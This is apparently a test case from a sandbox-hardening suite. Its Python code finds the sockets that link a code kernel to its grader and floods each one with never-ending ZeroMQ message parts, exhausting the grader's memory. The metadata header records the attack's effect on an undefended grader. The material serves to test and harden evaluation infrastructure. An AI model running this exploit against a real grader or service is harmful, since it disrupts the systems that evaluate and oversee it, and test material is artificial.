# family = "breaking"
# tries = "On the sockets between kernel and grader one ZeroMQ message is written whose parts never end."
# could_earn = "A machine without memory: a message was kept outside of every box until its last part was there."
# undefended = "The grader's worker kept all that was sent, 280 MB until the kernel itself happened to write a last part."
# boxed_only = true

# %% extra
import os
import socket
import threading
import time

part = b"\x03" + (1_000_000).to_bytes(8, "big") + b"x" * 1_000_000


def write(descriptor):
    connection = socket.socket(fileno=os.dup(descriptor))
    connection.setblocking(True)
    for _ in range(1500):
        connection.sendall(part)


for name in os.listdir("/proc/self/fd"):
    try:
        if "socket" in os.readlink(f"/proc/self/fd/{name}"):
            threading.Thread(target=write, args=(int(name),), daemon=True).start()
    except OSError:
        pass
time.sleep(6)
